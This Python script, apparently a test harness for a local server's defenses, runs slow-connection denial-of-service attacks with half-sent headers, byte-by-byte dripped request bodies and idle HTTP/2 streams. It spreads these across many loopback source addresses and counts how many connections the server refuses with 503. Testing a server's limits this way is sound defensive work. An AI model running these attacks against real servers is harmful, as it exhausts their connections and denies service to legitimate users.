"""Clients that take and give nothing back, at a low priority, since they would be other machines.

    python3 attack.py KIND HOST PORT NUMBER

They open NUMBER connections from a hundred addresses and keep as many open. Once all were open at once it prints `open`. At its end:
how many were open in all, and how many the server answered 503.
"""

import asyncio
import contextlib
import os
import random
import signal
import struct
import sys

import portal

KIND, HOST, PORT, NUMBER = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, PING, HEADERS, GOAWAY, ACK = 4, 6, 1, 7, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(index, value):
    """A header of the static table with a value of its own (RFC 7541, 6.2.2)."""
    return bytes([index, len(value)]) + value


ASK = b"\x82\x86" + text(4, b"/healthz") + text(1, b"a.example")


class Crowd:
    def __init__(self):
        self.open = self.opened = self.refused = self.lost = 0
        self.most, self.ready = 0, asyncio.Event()

    async def keep(self):
        loop = asyncio.get_running_loop()
        while True:
            client = KINDS[KIND](self)
            try:
                await loop.create_connection(lambda client=client: client, HOST, PORT, local_addr=(f"127.0.0.{random.randint(2, 101)}", 0))
                await client.ended.wait()
            except OSError:
                self.lost += 1
            await asyncio.sleep(0.2 + random.random())


class Greedy(asyncio.Protocol):
    def __init__(self, crowd):
        self.crowd, self.ended, self.first = crowd, asyncio.Event(), b""

    def connection_made(self, transport):
        self.transport = transport
        self.crowd.open += 1
        self.crowd.opened += 1
        if self.crowd.open > self.crowd.most:
            self.crowd.most = self.crowd.open
        if self.crowd.open == NUMBER:
            self.crowd.ready.set()
        self.begin()

    def data_received(self, data):
        self.first = self.first or data[:32]
        if self.first.startswith(b"HTTP/1.1 503"):
            self.crowd.refused += 1
            self.transport.close()

    def connection_lost(self, _):
        self.crowd.open -= 1
        self.ended.set()

    def begin(self):
        pass


class HalfHead(Greedy):
    def begin(self):
        self.transport.write(b"GET /events HTTP/1.1\r\nHost: a.example\r\nX-Long: ")


class DrippingBody(Greedy):
    def begin(self):
        self.transport.write(
            b"POST /verify HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\npasted="
        )
        self.drip()

    def drip(self):
        if not self.transport.is_closing():
            self.transport.write(b"x")
            # Not all at once, as if they knew of each other.
            asyncio.get_running_loop().call_later(random.uniform(0.5, 1.5), self.drip)


class IdleHttp2(Greedy):
    """Asks once, answers each ping of the server, and is otherwise silent."""

    def begin(self):
        self.unread = b""
        self.transport.write(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 5, 1, ASK))

    def data_received(self, data):
        super().data_received(data)
        self.unread += data
        while len(self.unread) >= 9:
            length, kind, flags = int.from_bytes(self.unread[:3]), self.unread[3], self.unread[4]
            if len(self.unread) < 9 + length:
                return
            payload, self.unread = self.unread[9 : 9 + length], self.unread[9 + length :]
            if kind == PING and not flags & ACK:
                self.transport.write(frame(PING, ACK, 0, payload))
            elif kind == SETTINGS and not flags & ACK:
                self.transport.write(frame(SETTINGS, ACK, 0))
            elif kind == GOAWAY:
                self.transport.close()


KINDS = {"heads": HalfHead, "bodies": DrippingBody, "http2": IdleHttp2}


async def main():
    os.nice(10)
    portal.allow_many_files()
    crowd, stop = Crowd(), asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    everybody = []
    for n in range(NUMBER):
        everybody.append(asyncio.create_task(crowd.keep()))
        if n % 50 == 49:
            await asyncio.sleep(0.05)
    with contextlib.suppress(asyncio.TimeoutError):
        await asyncio.wait_for(crowd.ready.wait(), 20)
    print("open", flush=True)
    await stop.wait()
    print(f"{crowd.opened} opened, at most {crowd.most} at once, {crowd.refused} refused with 503, {crowd.lost} not let in")
    # Not one by one: the process ends, and the kernel closes them all.
    sys.stdout.flush()
    os._exit(0)


asyncio.run(main())
